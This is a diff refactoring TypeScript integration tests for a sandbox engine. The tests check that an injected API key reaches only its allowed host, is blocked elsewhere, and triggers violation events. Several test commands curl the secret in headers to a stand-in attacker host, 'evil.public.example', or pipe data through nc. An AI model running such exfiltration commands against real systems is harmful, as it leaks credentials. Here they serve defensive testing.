@@ -1,115 +1,33 @@
 import assert from 'node:assert/strict';
-import { execFile, spawn } from 'node:child_process';
+import { execFile } from 'node:child_process';
 import { readdirSync, readFileSync } from 'node:fs';
-import { cp, mkdir, realpath } from 'node:fs/promises';
-import { dirname, join } from 'node:path';
-import { createInterface } from 'node:readline';
 import { after, before, describe, test } from 'node:test';
-import { fileURLToPath } from 'node:url';
 import { promisify } from 'node:util';
-import type { Network } from '@svc/contract';
 import { waitUntil } from '@svc/contract/testing';
-import type { EngineEvent } from '@svc/engine/client';
-import { inNamespace } from '../../packages/engine/src/testing/command.ts';
-import { startInternet, type Internet } from '../../packages/engine/src/testing/internet.ts';
-import { importChanged } from './image-fixture.ts';
-import { CLASSES, startSandbox, type TestSandbox } from './sandbox-fixture.ts';
-import { TestEngine } from './start-engine.ts';
+import { API, CLIENTS_IMAGE, EVIL, HttpsInternet, PLACEHOLDER, VALUE } from './https-internet.ts';
+import { CLASSES, type TestSandbox } from './sandbox-fixture.ts';
+import type { TestEngine } from './start-engine.ts';
 
-const SERVER = fileURLToPath(new URL('../../packages/engine/src/testing/https-main.ts', import.meta.url));
-const IMAGE = 'svc/clients';
-const [VALUE, NEXT_VALUE] = ['sk-live-4711-real', 'sk-live-0815-next'];
-const PLACEHOLDER = '$MSB_API_KEY';
-const [API, EVIL] = ['api.public.example', 'evil.public.example'];
+const NEXT_VALUE = 'sk-live-0815-next';
 
-interface Request {
-  readonly name: string;
-  readonly said: string;
-}
-
-let internet: Internet;
+let world: HttpsInternet;
 let engine: TestEngine;
-let certificate = '';
-const requests: Request[] = [];
-const events: EngineEvent[] = [];
-const undo = new AsyncDisposableStack();
-
 before(async () => {
-  internet = undo.use(await startInternet());
-  const line = inNamespace(internet.namespace, process.execPath, SERVER);
-  const child = spawn(line[0], line.slice(1), { stdio: ['ignore', 'pipe', 'inherit'] });
-  undo.defer(() => void child.kill('SIGKILL'));
-  createInterface({ input: child.stdout }).on('line', (text) => {
-    const told = JSON.parse(text) as Request | { readonly certificate: string };
-    if ('certificate' in told) certificate = told.certificate;
-    else requests.push(told);
-  });
-  engine = await TestEngine.start({ args: ['--nameserver', internet.resolver] });
-  undo.defer(() => engine.destroy());
-  await importChanged(engine, IMAGE, async (root) => {
-    await copyProgram(root, process.execPath, 'node');
-    await copyProgram(root, '/usr/bin/curl', 'curl');
-  });
-  await waitUntil(() => certificate !== '');
-  const over = new AbortController();
-  undo.defer(() => over.abort());
-  void (async () => {
-    for await (const event of engine.client.events({}, over.signal)) events.push(event);
-  })().catch(() => undefined);
+  world = await HttpsInternet.start();
+  ({ engine } = world);
 });
-after(() => undo.disposeAsync());
-
-/** With the libraries that it is linked against. */
-async function copyProgram(root: string, program: string, name: string): Promise<void> {
-  const copy = async (from: string, to: string) => {
-    await mkdir(dirname(to), { recursive: true });
-    await cp(await realpath(from), to);
-  };
-  await copy(program, join(root, 'usr/bin', name));
-  const { stdout } = await promisify(execFile)('ldd', [program]);
-  for (const [library] of stdout.matchAll(/\/\S+\.so\S*/g)) await copy(library, join(root, library));
-}
-
-function network(more: Partial<Network> = {}, entry: object = {}): Network {
-  return {
-    tls: { upstream_ca_cert: [certificate] },
-    secrets: {
-      entries: [
-        {
-          env_var: 'API_KEY',
-          placeholder: PLACEHOLDER,
-          allowed_hosts: [{ type: 'exact', value: API }],
-          ...entry,
-        },
-      ],
-    },
-    ...more,
-  };
-}
-
-async function startClient(isolation: (typeof CLASSES)[number], given: Network): Promise<TestSandbox> {
-  const secretValues = (given.secrets?.entries ?? []).length > 0 ? { API_KEY: VALUE } : {};
-  return await startSandbox(
-    engine,
-    isolation,
-    { image: { type: 'oci', reference: IMAGE }, network: given },
-    { secretValues },
-  );
-}
-
-const requestsTo = (name: string) => requests.filter((request) => request.name === name);
-const everythingSaid = () => JSON.stringify(requests);
+after(() => world[Symbol.asyncDispose]());
 
 for (const isolation of CLASSES) {
   describe(`on class ${isolation}`, { concurrency: false }, () => {
     let sandbox: TestSandbox;
     before(async () => {
-      sandbox = await startClient(isolation, network());
+      sandbox = await world.startClient(isolation, world.network());
     });
     after(() => sandbox.remove());
 
     test('clients use a secret towards its host without holding it', async () => {
-      requests.length = 0;
+      world.forget();
       const curl = await sandbox.sh(`curl -sS -H "X-Key: $API_KEY" https://${API}/curl`);
       assert.deepEqual([curl.stdout, curl.stderr], [`hello from ${API}\n`, '']);
       const script = `fetch('https://${API}/fetch', { headers: { authorization: 'Bearer ' + process.env.API_KEY } })
@@ -118,7 +36,7 @@ for (const isolation of CLASSES) {
       assert.match(node.stdout, /^hello from/, node.stderr);
       const basic = await sandbox.sh(`curl -sS -u "me:$API_KEY" https://${API}/basic`);
       assert.equal(basic.code, 0, basic.stderr);
-      const said = requestsTo(API).map((request) => request.said);
+      const said = world.requestsTo(API).map((request) => request.said);
       assert.ok(
         said.some((text) => text.startsWith('GET /curl') && text.includes(`X-Key ${VALUE}`)),
         said[0],
@@ -164,34 +82,35 @@ for (const isolation of CLASSES) {
     ];
     for (const [title, line] of attacks) {
       test(`a secret does not leave ${title}`, async () => {
-        requests.length = 0;
-        const { code } = await sandbox.sh(line.replace('ADDRESS', internet.publicAddress));
+        world.forget();
+        const { code } = await sandbox.sh(line.replace('ADDRESS', world.internet.publicAddress));
         if (title !== 'under the name of another host') assert.notEqual(code, 0, 'it is stopped');
         const control = await sandbox.sh(`curl -sS https://${API}/control`);
         assert.equal(control.code, 0, control.stderr);
         // What was sent earlier arrived earlier.
-        await waitUntil(() => requests.some((request) => request.said.includes('/control')));
-        // A body streams: the host may see that one was to come, and nothing of it.
-        const seen = requestsTo(EVIL).map(({ said }) => said);
-        assert.ok(title.includes('body') || seen.length === 0, seen[0]);
-        assert.ok(!/MSB|API_KEY/.test(seen.join('')), seen[0]);
-        const elsewhere = requests.filter(({ name, said }) => name !== API || said.includes(EVIL));
-        assert.ok(!JSON.stringify(elsewhere).includes(VALUE), everythingSaid());
+        await waitUntil(() => world.requests.some((request) => request.said.includes('/control')));
+        assert.deepEqual(
+          world.begun.filter((begun) => begun.startsWith(EVIL)),
+          [],
+          'not even the head of the request arrived',
+        );
+        const elsewhere = world.requests.filter(({ name, said }) => name !== API || said.includes(EVIL));
+        assert.ok(!JSON.stringify(elsewhere).includes(VALUE), JSON.stringify(world.requests));
       });
     }
 
     test('what was stopped is told', async () => {
       await waitUntil(() =>
-        events.some(({ type, sandboxId }) => type === 'secret_violation' && sandboxId === sandbox.id),
+        world.events.some(({ type, sandboxId }) => type === 'secret_violation' && sandboxId === sandbox.id),
       );
-      const told = JSON.stringify(events);
+      const told = JSON.stringify(world.events);
       assert.ok(told.includes('API_KEY') && !told.includes(VALUE));
     });
   });
 }
 
 test('a value is found nowhere on the host but in files of memory that only root reads', async () => {
-  const sandbox = await startClient('container', network());
+  const sandbox = await world.startClient('container', world.network());
   try {
     await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`);
     await promisify(execFile)('sync', []);
@@ -219,13 +138,13 @@ function read(path: string): string {
 }
 
 test('a value changes while the sandbox runs, and outlives the engine', async () => {
-  const sandbox = await startClient('container', network());
+  const sandbox = await world.startClient('container', world.network());
   const ask = async (path: string) => {
     const { code, stderr } = await sandbox.sh(
       `curl -sS --retry 5 --retry-all-errors -H "X-Key: $API_KEY" https://${API}${path}`,
     );
     assert.equal(code, 0, stderr);
-    return requestsTo(API).findLast(({ said }) => said.includes(path))?.said ?? '';
+    return world.requestsTo(API).findLast(({ said }) => said.includes(path))?.said ?? '';
   };
   try {
     assert.match(await ask('/first'), new RegExp(VALUE));
@@ -242,9 +161,9 @@ test('a value changes while the sandbox runs, and outlives the engine', async ()
 });
 
 test('a sandbox ends that breaks a rule that says so; one without its value does not start', async () => {
-  const sandbox = await startClient(
+  const sandbox = await world.startClient(
     'container',
-    network({}, { on_violation: { type: 'block_and_terminate' } }),
+    world.network({}, { on_violation: { type: 'block_and_terminate' } }),
   );
   try {
     await sandbox.sh(`curl -sS -m 20 -H "X: $API_KEY" https://${EVIL}/`).catch(() => undefined);
@@ -254,7 +173,7 @@ test('a sandbox ends that breaks a rule that says so; one without its value does
   } finally {
     await sandbox.remove();
   }
-  const spec = { image: { type: 'oci', reference: IMAGE } as const, network: network() };
+  const spec = { image: { type: 'oci', reference: CLIENTS_IMAGE } as const, network: world.network() };
   await assert.rejects(
     engine.client.createSandbox({ spec, start: true, isolation: 'container' }),
     /network\.secrets\.entries\[0\]\.value/,
@@ -263,19 +182,26 @@ test('a sandbox ends that breaks a rule that says so; one without its value does
 
 test('strict names are reached over TLS and HTTP, and not by what says no name', async () => {
   const allowed = { direction: 'egress', action: 'allow', destination: { domain: API } } as const;
-  const sandbox = await startClient('container', { strict: true, policy: { rules: [allowed] } });
+  const { tls: read } = world.network();
+  const strict = { strict: true, policy: { rules: [allowed] } };
+  const sandbox = await world.startClient('container', { ...strict, tls: { ...read, enabled: true } });
+  const unread = await world.startClient('container', strict);
   try {
-    requests.length = 0;
-    const tls = await sandbox.sh(`curl -sSk -m 20 https://${API}/strict`);
+    world.forget();
+    const claimed = await unread.sh(`curl -sSk -m 20 https://${API}/claimed`);
+    assert.notEqual(claimed.code, 0, 'what nobody reads may be for anybody');
+    assert.deepEqual(world.begun, []);
+    const tls = await sandbox.sh(`curl -sS -m 20 https://${API}/strict`);
     assert.equal(tls.stdout, `hello from ${API}\n`, tls.stderr);
     const foreign = await sandbox.sh(
-      `curl -sSk -m 20 --resolve ${EVIL}:443:${internet.publicAddress} https://${EVIL}/`,
+      `curl -sSk -m 20 --resolve ${EVIL}:443:${world.internet.publicAddress} https://${EVIL}/`,
     );
     assert.notEqual(foreign.code, 0);
     const silent = await sandbox.sh(`echo hi | timeout 5 nc ${API} 8080`);
     assert.ok(!silent.stdout.includes('you are'), silent.stdout);
-    assert.deepEqual(requestsTo(EVIL), []);
+    assert.deepEqual(world.requestsTo(EVIL), []);
   } finally {
     await sandbox.remove();
+    await unread.remove();
   }
 });
